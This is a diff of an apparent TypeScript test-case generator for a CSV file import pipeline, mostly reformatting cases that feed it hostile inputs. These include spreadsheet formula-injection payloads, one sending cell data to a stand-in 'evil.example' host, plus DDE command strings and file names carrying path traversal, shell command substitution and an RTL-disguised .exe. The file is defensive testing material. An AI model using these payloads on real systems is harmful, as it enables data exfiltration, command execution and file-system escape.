+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '-2+3',
+    '\t=1+1',
+    '=1+1\r',
+    '\r=2+2',
+  ];
   add({
-    id: 'formula-products', fileName: 'formula-products.csv', what: 'product names and specifications that look like formulas',
+    id: 'formula-products',
+    fileName: 'formula-products.csv',
+    what: 'product names and specifications that look like formulas',
     expect: archive(1, formulas.length),
     write: (d) =>
-      put(d, 'formula-products.csv', csvOf(t, formulas.map((f, i) => ({ pr: 'FORMULA1000', item: String((i + 1) * 10), product: f, spec: f, qty: '1' })))),
+      put(
+        d,
+        'formula-products.csv',
+        csvOf(
+          t,
+          formulas.map((f, i) => ({ pr: 'FORMULA1000', item: String((i + 1) * 10), product: f, spec: f, qty: '1' })),
+        ),
+      ),
   });
   add({
-    id: 'formula-requisition-key', fileName: 'formula-key.csv', what: 'a requisition key that looks like a formula (=1+1) and one holding a colon (BullMQ job id trap)',
+    id: 'formula-requisition-key',
+    fileName: 'formula-key.csv',
+    what: 'a requisition key that looks like a formula (=1+1) and one holding a colon (BullMQ job id trap)',
     expect: archive(2, 2),
     write: (d) =>
-      put(d, 'formula-key.csv', csvOf(t, [
-        { pr: '=1+1', item: '10', product: 'formula key', qty: '1' },
-        { pr: 'PR:2026:77', item: '10', product: 'colon key', qty: '1' },
-      ])),
+      put(
+        d,
+        'formula-key.csv',
+        csvOf(t, [
+          { pr: '=1+1', item: '10', product: 'formula key', qty: '1' },
+          { pr: 'PR:2026:77', item: '10', product: 'colon key', qty: '1' },
+        ]),
+      ),
   });
   add({
-    id: 'digits-key', fileName: '12345.csv', what: 'all-digit requisition keys and file name (BullMQ rejects all-digit job ids)',
+    id: 'digits-key',
+    fileName: '12345.csv',
+    what: 'all-digit requisition keys and file name (BullMQ rejects all-digit job ids)',
     expect: archive(1, 2),
-    write: (d) => put(d, '12345.csv', csvOf(t, [{ pr: '987654', item: '10', product: 'x', qty: '1' }, { pr: '987654', item: '20', product: 'y', qty: '2' }])),
+    write: (d) =>
+      put(
+        d,
+        '12345.csv',
+        csvOf(t, [
+          { pr: '987654', item: '10', product: 'x', qty: '1' },
+          { pr: '987654', item: '20', product: 'y', qty: '2' },
+        ]),
+      ),
   });
   add({
-    id: 'unicode-text', fileName: 'unicode-text.csv', what: 'RTL override, zero-width joiners, emoji, CJK and combining marks in product names',
+    id: 'unicode-text',
+    fileName: 'unicode-text.csv',
+    what: 'RTL override, zero-width joiners, emoji, CJK and combining marks in product names',
     expect: archive(1, 3),
     write: (d) =>
-      put(d, 'unicode-text.csv', csvOf(t, [
-        { pr: 'UNI1000', item: '10', product: 'Schraube \u202Egnp.exe\u202C', qty: '1' },
-        { pr: 'UNI1000', item: '20', product: '螺丝 M8 \u{1F529} e\u0301', qty: '1' },
-        { pr: 'UNI1000', item: '30', product: 'z\u200Bero\u200Dwidth', qty: '1' },
-      ])),
+      put(
+        d,
+        'unicode-text.csv',
+        csvOf(t, [
+          { pr: 'UNI1000', item: '10', product: 'Schraube \u202Egnp.exe\u202C', qty: '1' },
+          { pr: 'UNI1000', item: '20', product: '螺丝 M8 \u{1F529} e\u0301', qty: '1' },
+          { pr: 'UNI1000', item: '30', product: 'z\u200Bero\u200Dwidth', qty: '1' },
+        ]),
+      ),
   });
 
   // ---- hostile file names (valid content)
@@ -679,38 +915,76 @@ export function hostileCases(t: Template = GENERIC_TEMPLATE, limits: typeof HOST
     add({ id, fileName, what, expect: archive(1, 2), write: (d) => put(d, fileName, good(prefix)) });
   named('name-dotdot', 'evil..csv', 'file name ending in .. before the extension', 'NDOT');
   named('name-dotdot-mid', 'a..b..c.csv', 'file name with .. inside', 'NDOTMID');
-  named('name-backslash-traversal', 'x\\..\\..\\..\\windows-traversal.csv', 'file name holding a Windows path traversal (backslashes are plain characters on Linux)', 'NBACK');
-  named('name-encoded-traversal', '%2e%2e%2F%2e%2e%2Fetc%2Fpasswd.csv', 'file name holding an URL-encoded traversal', 'NENC');
+  named(
+    'name-backslash-traversal',
+    'x\\..\\..\\..\\windows-traversal.csv',
+    'file name holding a Windows path traversal (backslashes are plain characters on Linux)',
+    'NBACK',
+  );
+  named(
+    'name-encoded-traversal',
+    '%2e%2e%2F%2e%2e%2Fetc%2Fpasswd.csv',
+    'file name holding an URL-encoded traversal',
+    'NENC',
+  );
   add({
-    id: 'name-dotfile-traversal', fileName: '..%2F..%2Fescape.csv', what: 'a dotfile name holding a traversal: the inbox ignores dotfiles, nothing may be created',
+    id: 'name-dotfile-traversal',
+    fileName: '..%2F..%2Fescape.csv',
+    what: 'a dotfile name holding a traversal: the inbox ignores dotfiles, nothing may be created',
     expect: { ...archive(1, 2), ignoredByInbox: true },
     write: (d) => put(d, '..%2F..%2Fescape.csv', good('NDOTFILE')),
   });
   named('name-quotes', `o'brien "urgent".csv`, 'file name with single and double quotes', 'NQUOTE');
   named('name-newline', 'line\nbreak\r.csv', 'file name with a newline and a carriage return', 'NNEWL');
-  named('name-non-latin', 'заявка-采购-طلب-Ünïcödé.csv', 'file name in Cyrillic, Chinese, Arabic and accented Latin', 'NUNI');
+  named(
+    'name-non-latin',
+    'заявка-采购-طلب-Ünïcödé.csv',
+    'file name in Cyrillic, Chinese, Arabic and accented Latin',
+    'NUNI',
+  );
   named('name-shell', '$(touch pwned);`id`|x&.csv', 'file name with shell metacharacters', 'NSHELL');
   named('name-windows-reserved', 'CON.csv', 'a Windows device name', 'NCON');
-  named('name-colon', 'PR:2026:01.csv', 'file name with colons (invalid on Windows shares, BullMQ job id trap)', 'NCOLON');
+  named(
+    'name-colon',
+    'PR:2026:01.csv',
+    'file name with colons (invalid on Windows shares, BullMQ job id trap)',
+    'NCOLON',
+  );
   named('name-long', `${'long-'.repeat(48)}.csv`, 'a 244-character file name', 'NLONG');
   named('name-formula', '=cmd|calc!A0.csv', 'a file name that looks like a formula', 'NFORM');
 
   // ---- dropped in awkward ways (the pipeline test honours `drop`)
   const growing = good('GROW', 6).split(CRLF);
-  const growParts = [growing.slice(0, 4).join(CRLF) + CRLF, ...growing.slice(4).filter(Boolean).map((l) => l + CRLF)];
+  const growParts = [
+    growing.slice(0, 4).join(CRLF) + CRLF,
+    ...growing
+      .slice(4)
+      .filter(Boolean)
+      .map((l) => l + CRLF),
+  ];
   add({
-    id: 'growing', fileName: 'still-copying.csv', what: 'a file that keeps growing for a while after it appears (slow copy)',
-    drop: 'growing', expect: archive(6, 12), parts: growParts,
+    id: 'growing',
+    fileName: 'still-copying.csv',
+    what: 'a file that keeps growing for a while after it appears (slow copy)',
+    drop: 'growing',
+    expect: archive(6, 12),
+    parts: growParts,
     write: (d) => put(d, 'still-copying.csv', growParts.join('')),
   });
   add({
-    id: 'deleted-while-queued', fileName: 'vanishing.csv', what: 'a file deleted right after it is dropped',
-    drop: 'deleted', expect: either,
+    id: 'deleted-while-queued',
+    fileName: 'vanishing.csv',
+    what: 'a file deleted right after it is dropped',
+    drop: 'deleted',
+    expect: either,
     write: (d) => put(d, 'vanishing.csv', good('VANISH')),
   });
   add({
-    id: 'twin', fileName: 'twin-a.csv', what: 'the same bytes dropped under two names (one set of RFQs, the second a duplicate)',
-    drop: 'twin', expect: archive(2, 4),
+    id: 'twin',
+    fileName: 'twin-a.csv',
+    what: 'the same bytes dropped under two names (one set of RFQs, the second a duplicate)',
+    drop: 'twin',
+    expect: archive(2, 4),
     write: (d) => put(d, 'twin-a.csv', good('TWIN', 2)),
   });
   return cases;
